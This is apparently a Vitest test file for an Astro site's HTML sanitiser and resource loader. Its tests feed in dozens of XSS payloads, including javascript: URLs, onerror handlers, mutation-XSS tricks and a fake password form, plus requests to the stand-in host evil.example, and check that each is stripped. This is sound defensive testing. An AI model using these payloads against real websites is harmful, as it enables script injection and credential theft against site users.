import type { LoaderContext } from 'astro/loaders';
import { describe, expect, test } from 'vitest';
import { resourcesLoader } from '#resources/loader.ts';
import { sanitise } from '#resources/sanitise.ts';

describe('What staff post', () => {
  test('keeps its words, lists, tables and links', () => {
    const html =
      '<h2>Open late</h2><p>A <strong>warm</strong> <em>place</em>.<br />Come in.</p>' +
      '<ul><li>One</li></ul><ol start="3"><li>Three</li></ol>' +
      '<table><thead><tr><th scope="col">Day</th></tr></thead><tbody><tr><td>Friday</td></tr></tbody></table>' +
      '<p><a href="https://example.org/a?b=1&amp;c=2">a</a> <a href="/events/">b</a> <a href="mailto:a@example.org">c</a></p>';
    expect(sanitise(html)).toBe(html);
  });

  test('has its headings under the title of its page', () => {
    expect(sanitise('<h1 id="main">Hours</h1><h6>Note</h6>')).toBe('<h2>Hours</h2><h4>Note</h4>');
  });

  // the usual list of ways to run a script, call another host, or dress up as the site
  test.each([
    '<script>alert(1)</script>',
    '<script src="https://evil.example/x.js"></script>',
    '<scr<script>ipt>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<img src="https://evil.example/pixel.gif">',
    '<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
    '<svg><script>alert(1)</script></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="//evil.example/">x</a>',
    '<a href="/x" onclick="alert(1)" style="position:fixed;inset:0" target="_blank" ping="https://evil.example/">x</a>',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<form action="https://evil.example/"><input name="password"><button>Sign in</button></form>',
    '<input autofocus onfocus=alert(1)>',
    '<details open ontoggle=alert(1)>x</details>',
    '<body onload=alert(1)>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<style>@import "https://evil.example/x.css";</style>',
    '<p style="background:url(https://evil.example/)">x</p>',
    '<video src=x onerror=alert(1)><source src="https://evil.example/v.mp4"></video>',
    '<audio src=x onerror=alert(1)></audio>',
    '<p id="main" class="crisis" name="x">x</p>',
    '<template><script>alert(1)</script></template>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<!--><img src=x onerror=alert(1)>-->',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<textarea></textarea><script>alert(1)</script>',
    '<xmp><img src=x onerror=alert(1)></xmp>',
    '<p>x<script',
    '<error-summary><slot></slot></error-summary>',
  ])('cannot smuggle in %s', (payload) => {
    const html = sanitise(`<p>before</p>${payload}`);
    expect(html).toContain('<p>before</p>');
    const tags = [...html.matchAll(/<\/?([a-z0-9-]+)([^>]*)>/gi)];
    for (const [, name = '', attributes = ''] of tags) {
      expect(['p', 'a', 'table', 'tbody', 'tr', 'td']).toContain(name);
      expect(attributes.trim()).toMatch(/^(href="\/x")?\/?$/);
    }
  });
});

describe('The collection of resources', () => {
  const row = {
    id: '7e000000-0000-4000-8000-00000000000a',
    slug: 'a-place',
    title: 'A place',
    summary: 'Where to go.',
    body: 'Come in.',
    kind: 'guide',
    topics: ['housing'],
    audience: 'everyone',
    language: 'en',
    services: [],
    links: [],
    pair_id: null,
    published_at: '2026-11-01T09:00:00Z',
    review_by: '2027-05-01',
    updated_at: '2026-11-22 01:09:20.12+00',
  };

  async function load(found: unknown[]) {
    const entries = new Map<string, { id: string; data: unknown; rendered?: { html: string } }>();
    const warnings: string[] = [];
    const reported: { kind: string; what: { title: string; slug: string; why: string }[] }[] = [];
    const context = {
      store: {
        clear: () => entries.clear(),
        set: (entry: { id: string; data: unknown }) => entries.set(entry.id, entry),
      },
      logger: { warn: (message: string) => warnings.push(message), info: () => {} },
      parseData: ({ data }: { data: unknown }) => Promise.resolve(data),
      generateDigest: () => 'digest',
    } as unknown as LoaderContext;
    await resourcesLoader(
      () => Promise.resolve(found),
      (kind, what) => reported.push({ kind, what }),
    ).load(context);
    return { entries, warnings, reported };
  }

  test('holds what was published, with times as the web writes them', async () => {
    const { entries } = await load([row]);
    expect(entries.get('a-place')).toMatchObject({
      data: {
        title: 'A place',
        topics: ['housing'],
        reviewBy: '2027-05-01',
        updatedAt: '2026-11-22T01:09:20.12Z',
      },
      rendered: { html: '<p>Come in.</p>' },
    });
  });

  test('holds nothing that was not sanitised', async () => {
    const { entries } = await load([{ ...row, body: 'Hello<script>alert(1)</script>' }]);
    expect(entries.get('a-place')?.rendered?.html).toBe('<p>Hello</p>');
  });

  test.each([
    ['an unknown topic', { topics: ['gossip'] }],
    ['no title', { title: ' ' }],
    ['a slug that is a path', { slug: '../help' }],
    ['a time that is none', { updated_at: 'yesterday' }],
    ['a body of another type', { body: 7 }],
    ['a body of which nothing may be shown', { body: '<script>alert(1)</script>' }],
  ])('leaves out a row with %s, says so, and keeps the others', async (_what, broken) => {
    const { entries, warnings } = await load([
      { ...row, ...broken },
      { ...row, slug: 'another' },
    ]);
    expect([...entries.keys()]).toEqual(['another']);
    expect(warnings).toHaveLength(1);
  });

  test('tells staff what it left out and what to look at, and says so too when it is nothing', async () => {
    const { reported } = await load([
      row,
      { ...row, slug: 'b', title: 'B', links: [{ label: 'X', url: 'javascript:alert(1)' }] },
    ]);
    expect(reported).toEqual([
      { kind: 'resource', what: [{ title: 'B', slug: 'b', why: 'Look again at where it is from' }] },
    ]);
    expect((await load([row])).reported).toEqual([{ kind: 'resource', what: [] }]);
  });

  test('leaves out what is no row at all', async () => {
    const { entries, warnings } = await load([null, 'x', row]);
    expect([...entries.keys()]).toEqual(['a-place']);
    expect(warnings).toHaveLength(2);
  });

  test('ends the build when the database does not answer', async () => {
    const loading = resourcesLoader(() => Promise.reject(new Error('away'))).load({} as LoaderContext);
    await expect(loading).rejects.toThrow('away');
  });
});
